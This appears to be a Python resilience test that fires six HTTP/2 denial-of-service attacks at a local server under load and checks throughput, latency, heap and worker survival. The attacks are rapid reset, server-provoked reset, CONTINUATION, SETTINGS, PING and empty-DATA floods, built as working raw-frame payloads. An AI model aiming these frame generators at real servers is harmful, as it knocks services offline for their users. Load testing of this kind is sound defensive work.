"""G15: contains HTTP/2 abuse. A good load of dispatches runs all the while; each attack comes from four connections to the
same listener, for `--seconds`, and a connection that the server ends is made again. Reports the load's rate and p99 beside
each attack in proportion to those without, what the server answered, the live heap before and after, and whether a worker
was lost. Needs python3-h2 (for hyperframe and hpack) and h2load.

The attacker shares the machine's processors with the server, so it is paced: 4 000 streams or 40 000 frames a second.

tools/proofs/run payara http2_abuse [--seconds 20] [--pace 10] [--least-rate 0.5]
"""

import argparse
import collections
import socket
import struct
import threading
import time

import hpack
from hyperframe.frame import Frame, GoAwayFrame

import proof

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
          "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, DATA = 1, 3, 4, 6, 8, 9, 0
END_STREAM, END_HEADERS = 1, 4


def raw_frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(method="GET", path="/db/kv", extra=()):
    fields = [(":method", method), (":scheme", "http"), (":authority", f"{proof.HOST}:{proof.PORT}"), (":path", path)]
    return hpack.Encoder().encode(fields + list(extra))


def rapid_reset(number):
    """Opens 100 streams and cancels each at once."""
    head = block()
    return b"".join(
        raw_frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + raw_frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1 + 200 * number, 1 + 200 * (number + 1), 2))


def made_you_reset(number):
    """Opens streams and makes the server reset them, by a window update of 0."""
    head = block("POST", "/db/kv?id=0&tenant_type=guild&tenant_id=1", [("content-length", "9")])
    return b"".join(
        raw_frame(HEADERS, END_HEADERS, stream, head) + raw_frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
        for stream in range(1 + 200 * number, 1 + 200 * (number + 1), 2))


def continuation_flood(number):
    """Begins one head and never ends it."""
    more = raw_frame(CONTINUATION, 0, 1, b"\x00\x03a-b\x05value" * 1000)
    return (raw_frame(HEADERS, END_STREAM, 1, block()) if number == 0 else b"") + more * 8


def settings_flood(number):
    """Sends settings, each of which wants an acknowledgement."""
    return raw_frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000


def ping_flood(number):
    return raw_frame(PING, 0, 0, b"12345678") * 1000


def empty_data_flood(number):
    """Sends a body of empty frames without an end."""
    head = raw_frame(HEADERS, END_HEADERS, 1, block("POST", "/db/kv?id=0&tenant_type=guild&tenant_id=1"))
    return (head if number == 0 else b"") + raw_frame(DATA, 0, 1) * 1000


ATTACKS = [rapid_reset, made_you_reset, continuation_flood, settings_flood, ping_flood, empty_data_flood]


class Attack:
    def __init__(self, chunks, seconds, pace):
        self.chunks = chunks
        self.pace = pace
        self.until = time.monotonic() + seconds
        self.sent = 0
        self.ends = collections.Counter()
        self.threads = [threading.Thread(target=self.run) for _ in range(4)]

    def run(self):
        while time.monotonic() < self.until:
            try:
                self.ends[self.connection()] += 1
            except OSError as failure:
                self.ends["connect: " + type(failure).__name__] += 1
                time.sleep(0.1)

    def connection(self):
        with proof.connect() as raw:
            raw.sendall(PREFACE + raw_frame(SETTINGS, 0, 0))
            heard = Listening(raw)
            number = 0
            while time.monotonic() < self.until and not heard.ended:
                data = self.chunks(number)
                try:
                    raw.sendall(data)
                except socket.timeout:
                    return heard.end or "does not read any more"
                except OSError:
                    break
                self.sent += len(data)
                number += 1
                time.sleep(1 / self.pace)
            with_end = time.monotonic() >= self.until and not heard.ended
            try:
                raw.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            heard.thread.join(2)
            return heard.end or ("open to the end" if with_end else "cut")


class Listening:
    """Reads what the server says, so that it cannot fill, and remembers a GOAWAY."""

    def __init__(self, raw):
        self.raw = raw
        self.end = None
        self.ended = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        got = b""
        try:
            while True:
                more = self.raw.recv(65536)
                if not more:
                    break
                got += more
                while len(got) >= 9:
                    head, length = Frame.parse_frame_header(memoryview(got[:9]))
                    if len(got) < 9 + length:
                        break
                    if isinstance(head, GoAwayFrame):
                        code = struct.unpack(">I", got[13:17])[0]
                        self.end = "GOAWAY " + (ERRORS[code] if code < len(ERRORS) else str(code))
                    got = got[9 + length:]
        except (OSError, ValueError):
            pass
        self.ended = True


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=int, default=20)
    parser.add_argument("--pace", type=float, default=10, help="writes a second and connection, of 100 streams or 1000 frames")
    parser.add_argument("--least-rate", type=float, default=0.5, help="the load beside an attack, in proportion")
    options = parser.parse_args()
    verdict = proof.Verdict()
    proof.warm_up(options.seconds)
    workers, heap = proof.connected_workers(), proof.live_heap_mb() if proof.server_pid() else 0.0
    print(f"{proof.SERVER}: {workers} workers, live heap {heap:.0f} MB", flush=True)
    for chunks in ATTACKS:
        quiet = proof.Load(seconds=max(1, options.seconds // 2)).run()
        load = proof.Load(seconds=options.seconds).start()
        attack = Attack(chunks, options.seconds, options.pace)
        for thread in attack.threads:
            thread.start()
        for thread in attack.threads:
            thread.join()
        beside = load.join()
        share = beside.rate / quiet.rate if quiet.rate else 0.0
        ends = ", ".join(f"{count} x {end}" for end, count in attack.ends.most_common(4))
        print(f"        without: {quiet}\n        beside:  {beside}\n        {attack.sent / 1e6:.1f} MB sent; {ends}", flush=True)
        verdict.check(share >= options.least_rate, f"{chunks.__name__}: {share:.2f} of the load's rate, p99 "
                      f"{beside.quantile_ms(0.99):.1f} ms after {quiet.quantile_ms(0.99):.1f} ms")
        verdict.check(beside.failed == 0, f"{chunks.__name__}: {beside.failed} dispatches failed")
    verdict.check(proof.connected_workers() == workers, f"{proof.connected_workers()} of {workers} workers are connected")
    if proof.server_pid():
        verdict.check(*proof.heap_is_back(heap))
    verdict.exit()


if __name__ == "__main__":
    main()
